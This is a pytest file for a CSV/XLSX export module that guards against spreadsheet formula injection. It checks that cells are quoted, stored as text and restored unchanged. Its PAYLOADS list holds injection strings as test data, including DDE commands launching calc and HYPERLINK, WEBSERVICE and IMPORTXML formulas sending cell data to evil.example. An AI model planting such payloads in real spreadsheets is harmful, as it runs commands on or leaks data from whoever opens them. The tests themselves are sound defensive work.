"""Files that a spreadsheet opens without running anything, and that come back as they were."""

import csv
import io
from datetime import datetime
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from components.ask.export import csv_bytes, guarded, restored, xlsx_bytes

PAYLOADS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE(CONCATENATE("http://evil.example/",A1))',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "+1+1",
    "+cmd|'/c calc'!A0",
    "-2+3",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|'/c calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹢1",
    "﹣1",
    "−1+1",
    "\t=1+1",
    "\t1",
    "\r=1+1",
    "\r1",
    "\n=1+1",
    "\n1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    " \t\r\n=1+1",
    "'=1+1",
    "''=1+1",
    "'",
    "'plain",
    "=",
    "-",
    "@",
    "+8613800138000",
    "=1+1\n=2+2",
    '"=1+1"\t=1',
]
HARMLESS = ["", "plain", "王小明", "a=b", "1-2", "me@example.cn", "12:30", "…", "#N/A", "<b>"]


def cells_of_csv(data: bytes) -> list[list[str]]:
    """A file as another program reads it."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def cells_of_xlsx(data: bytes) -> list[list[openpyxl.cell.Cell]]:
    """The cells of the first sheet."""
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_holds_no_cell_that_runs(payload):
    ((_head,), (cell,)) = cells_of_csv(csv_bytes(pd.DataFrame({"note": [payload]})))
    assert cell[0] == "'"
    assert restored(cell) == payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_holds_text_and_no_formula(payload):
    _head, (cell,) = cells_of_xlsx(xlsx_bytes(pd.DataFrame({"note": [payload]})))
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    # The format itself keeps a line's end as a line feed.
    assert restored(cell.value) == payload.replace("\r", "\n") or "\r" in payload


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert guarded(text) == text
    assert restored(text) == text


def test_a_columns_name_is_guarded_too():
    ((head,), _row) = cells_of_csv(csv_bytes(pd.DataFrame({"=1+1": ["x"]})))
    assert head == "'=1+1"


@given(st.text(max_size=30))
def test_restored_undoes_guarded(text):
    assert restored(guarded(text)) == text


READABLE = st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=20)


@given(st.lists(st.tuples(READABLE, READABLE), min_size=1, max_size=6))
@settings(max_examples=40, deadline=None)
def test_an_export_that_is_read_again_is_what_it_was(rows):
    frame = pd.DataFrame(rows, columns=["name", "note"])
    read = cells_of_csv(csv_bytes(frame))[1:]
    assert [tuple(map(restored, row)) for row in read] == rows
    sheet = [[cell.value or "" for cell in row] for row in cells_of_xlsx(xlsx_bytes(frame))[1:]]
    sheet += [["", ""]] * (len(rows) - len(sheet))  # a sheet ends at its last filled row
    assert [tuple(map(restored, row)) for row in sheet] == rows


def test_exporting_twice_gives_the_same_cells():
    frame = pd.DataFrame({"note": [*PAYLOADS, *HARMLESS]})
    once = [restored(row[0]) if row else "" for row in cells_of_csv(csv_bytes(frame))[1:]]
    assert csv_bytes(pd.DataFrame({"note": once})) == csv_bytes(frame)


def test_numbers_stay_numbers_and_negative_ones_are_not_guarded():
    frame = pd.DataFrame({"amount": [Decimal("-12.30"), Decimal("0.10")], "n": [-1, 2]})
    assert cells_of_csv(csv_bytes(frame))[1:] == [["-12.30", "-1"], ["0.10", "2"]]
    (amount, n) = cells_of_xlsx(xlsx_bytes(frame))[1]
    assert (amount.value, n.value) == (-12.3, -1)


def test_instants_are_on_the_local_clock_and_days_stay_days():
    frame = pd.DataFrame(
        {
            "paid_at": pd.to_datetime(["2026-11-21T16:30", None]),
            "unit_on": pd.to_datetime(["2026-11-22", None]),
        }
    )
    assert cells_of_csv(csv_bytes(frame))[1:] == [["2026-11-22 00:30:00", "2026-11-22"], ["", ""]]
    paid, day = cells_of_xlsx(xlsx_bytes(frame))[1]
    assert paid.value == datetime.fromisoformat("2026-11-22T00:30")
    assert day.value == datetime.fromisoformat("2026-11-22")


def test_csv_begins_with_the_mark_that_excel_needs_for_chinese():
    assert csv_bytes(pd.DataFrame({"姓名": ["王"]})).startswith(b"\xef\xbb\xbf\xe5\xa7\x93")


def test_an_empty_list_still_has_its_header():
    empty = pd.DataFrame({"name": pd.Series(dtype="str"), "n": pd.Series(dtype="int64")})
    assert cells_of_csv(csv_bytes(empty)) == [["name", "n"]]
    assert [cell.value for cell in cells_of_xlsx(xlsx_bytes(empty))[0]] == ["name", "n"]


def test_rows_beyond_a_sheet_go_on_in_the_next(monkeypatch):
    monkeypatch.setattr("components.ask.export.SHEET_ROWS", 2)
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(pd.DataFrame({"n": range(5)}))))
    found = [[row[0] for row in sheet.values][1:] for sheet in book.worksheets]
    assert found == [[0, 1], [2, 3], [4]]
